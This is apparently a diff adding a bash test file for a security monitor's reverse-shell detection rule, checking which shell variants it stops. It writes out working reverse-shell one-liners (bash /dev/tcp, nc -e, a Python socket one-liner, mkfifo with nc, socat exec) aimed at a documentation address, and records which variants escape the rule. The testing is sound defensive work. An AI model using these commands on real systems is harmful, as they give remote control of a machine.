@@ -1,0 +1,75 @@
+# shellcheck shell=bash
+# SPDX-License-Identifier: Apache-2.0
+# reverse_shell: a network peer that types into a program. The profile is as shipped.
+
+# peer: waits for a shell, types into it, and keeps what comes back
+peer() {
+	local i
+
+	{
+		# shellcheck disable=SC2016 # for the shell at the other end
+		printf 'echo ran-$((6 * 7))\nexit\n'
+		sleep 8
+	} | nc -l 192.0.2.1 4444 >"$work/heard" 2>/dev/null &
+	for ((i = 0; i < 50; i++)); do
+		[[ -z $(ss --no-header --listening --tcp --numeric 'sport = :4444') ]] || return
+		sleep 0.1
+	done
+}
+
+# What came back, once the shell is gone.
+heard() {
+	wait "$!"
+	grep --only-matching ran-42 "$work/heard"
+}
+
+# shell NAME SCRIPT: a way to a shell that works without a profile, and never runs under one
+shell() {
+	local name=$1
+
+	peer
+	act free prepare sh "$2"
+	equal "$name works without a profile" ran-42 "$(heard)"
+	peer
+	refuse_shell "$2"
+	equal "$name never runs" "" "$(heard)"
+	equal "$name leaves one event" "reverse_shell kill reverse_shell" \
+		"$(cut --delimiter=' ' --fields=2- "$work/events")"
+}
+
+refuse_shell() {
+	act "$session_container" prepare sh "$1"
+	: >"$work/taken"
+	collect shell
+	list_events
+}
+
+# other_shell NAME SCRIPT: a shell that this rule does not catch
+other_shell() {
+	peer
+	act "$session_container" prepare sh "$2"
+	equal "$1 is another matter" ran-42 "$(heard)"
+	: >"$work/taken"
+	collect shell
+	list_events
+	equal "$1 leaves no event" "" "$(<"$work/events")"
+}
+
+session reverse-shell no-reverse-shell || return
+shell "bash /dev/tcp" "bash -c 'bash >& /dev/tcp/192.0.2.1/4444 0>&1'"
+shell "nc -e" "nc.traditional 192.0.2.1 4444 -e /bin/sh"
+shell "a python one-liner" "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",4444));\
+[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call([\"/bin/sh\"])'"
+other_shell "a shell behind pipes" "mkfifo /tmp/pipe; sh </tmp/pipe 2>&1 | nc.traditional 192.0.2.1 4444 >/tmp/pipe"
+other_shell "a shell behind a pty" "socat tcp:192.0.2.1:4444 exec:/bin/sh,pty,stderr,setsid"
+stop reverse-shell
+
+session reverse-shell-descriptors no-reverse-shell || return
+kills "stdin and stdout" reverse_shell reverse_shell connected tcp 192.0.2.1 8080 0,1 : exec /opt/other
+kills "stdin and stderr" reverse_shell reverse_shell connected tcp 2001:db8::1 8080 0,2 : exec /opt/other
+kills "udp" reverse_shell reverse_shell connected udp 192.0.2.1 8053 0,1,2 : exec /opt/other
+permits "stdin alone" connected tcp 192.0.2.1 8080 0 : exec /opt/other
+permits "stdout and stderr" connected tcp 192.0.2.1 8080 1,2 : exec /opt/other
+permits "another descriptor" connected tcp 192.0.2.1 8080 0,5 : exec /opt/other
+permits "a local socket" pair-at : exec /opt/other
+end_session
